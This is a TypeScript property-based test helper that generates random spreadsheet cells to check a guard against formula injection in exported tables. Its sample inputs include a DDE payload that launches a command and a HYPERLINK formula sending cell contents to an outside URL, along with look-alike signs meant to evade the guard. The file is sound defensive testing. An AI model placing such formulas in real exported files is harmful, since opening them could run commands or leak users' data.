import fc from 'fast-check';
import { dayCell, momentCell, textOf, type Cell } from '../../../lib/delivery/cell.ts';
import { COLUMNS, type ColumnId } from '../../../lib/delivery/columns.ts';

/** Cells made of what customers write and of what goes round a formula guard. */

const pieces = [
  '=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '\t', '\r', '\n', '\r\n', '\v', '\f', '\u0085', '\u2028', '\u2029',
  ' ', '\u00A0', '\u3000', '\u200B', '\u200E', '\u2060', '\uFEFF', '\u00AD', '\u0000', '\u001F', '\u180E', '\uFE0F',
  "'", '"', '""', ',', ';', '|', '<b>', '&amp;', '&', '<', '>', '<br>', '</td>',
  '1+1', 'HYPERLINK("https://example.com/?"&A1,"да")', "cmd|' /C calc'!A0", 'SUM(A1:A9)', '-5', '+7 999 123-45-67', '+7 -9999999', '3,14',
  'вкусно', 'но дорого', 'Анна', '👍🏽', '味道不错', 'é', '𝒜',
];

export const cell = fc.oneof(
  { weight: 6, arbitrary: fc.array(fc.constantFrom(...pieces), { maxLength: 7 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }).map((text) => text.toWellFormed()) },
);

/** Every kind of cell that we write. */
const typedCell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 6, arbitrary: cell },
  fc.record({ value: fc.oneof(fc.integer({ min: 0, max: 100 }), fc.integer({ min: 0, max: 1_000 }).map((hundredths) => hundredths / 100)), of: fc.constantFrom(null, 5, 10, 100, 7) }).map(
    ({ value, of }): Cell => ({ kind: 'number', value, of, text: of === null ? String(value) : `${value} из ${of}` }),
  ),
  fc.integer({ min: -2_300_000_000_000, max: 4_000_000_000_000 }).chain((at) => fc.constantFrom<Cell>(momentCell(at, 'Europe/Moscow'), dayCell(at, 'Asia/Tokyo'))),
  fc.constant<Cell>({ kind: 'span', text: '2026-11-08 – 2026-11-14', iso: '2026-11-08/2026-11-14' }),
  fc.constantFrom('https://example.com/r/1', 'https://example.com/?a[b]=1&c="d"', 'http://пример.рф/о тзыв#к', `https://example.com/${'a'.repeat(2_100)}`, 'https://').map((text): Cell => ({ kind: 'link', text })),
);

export interface RandomTable {
  columns: ColumnId[];
  titles: string[];
  rows: Cell[][];
}

/** Two to four columns, no to four rows. */
export const typedTable: fc.Arbitrary<RandomTable> = fc.integer({ min: 2, max: 4 }).chain((width) =>
  fc.record({
    columns: fc.constant(COLUMNS.slice(0, width)),
    titles: fc.array(cell, { minLength: width, maxLength: width }),
    rows: fc.array(fc.array(typedCell, { minLength: width, maxLength: width }), { maxLength: 4 }),
  }),
);

/** The texts that any writer shows, titles first. */
export function textsOf({ titles, rows }: RandomTable): string[][] {
  return [titles, ...rows.map((row) => row.map(textOf))];
}

const SIGN = ['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠'];
const isBlank = (sign: string) => /[\p{Zs}\p{Cf}\u0000-\u0008\u000E-\u001F\u007F-\u0084\u0086-\u009F\u034F\u115F\u1160\u3164\uFFA0\uFE00-\uFE0F]/u.test(sign);

export const physicalLines = (text: string): string[] => text.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/);

/** Whether a spreadsheet could run this line; plain and telephone numbers run nothing. Written apart from the guard, sign by sign. */
export function couldRun(line: string): boolean {
  if (/^[+-]?\d+([.,]\d+)?$/.test(line)) return false;
  // Two numbers with no sign between them are no sum.
  if (/^\+?[\d\s()-]+$/.test(line) && /\d[\s()]+\d/.test(line) && line.replace(/\D/g, '').length >= 7 && !/^-/.test(line)) return false;
  const first = [...line].find((sign) => !isBlank(sign));
  return first !== undefined && SIGN.includes(first);
}

/** Takes the guard off by its rule: one `'` from every line that is `'`s and blanks and then a dangerous sign. */
export function unguarded(text: string): string {
  const parts = text.split(/(\r\n|[\n\r\v\f\u0085\u2028\u2029])/);
  return parts
    .map((line, index) => {
      if (index % 2 === 1 || !line.startsWith("'")) return line;
      const first = [...line].find((sign) => sign !== "'" && !isBlank(sign));
      const guarded = first === undefined ? index === 0 && parts.length > 1 : [...SIGN, '﹢', '﹣', '﹦', '﹫', '−'].includes(first);
      return guarded ? line.slice(1) : line;
    })
    .join('');
}
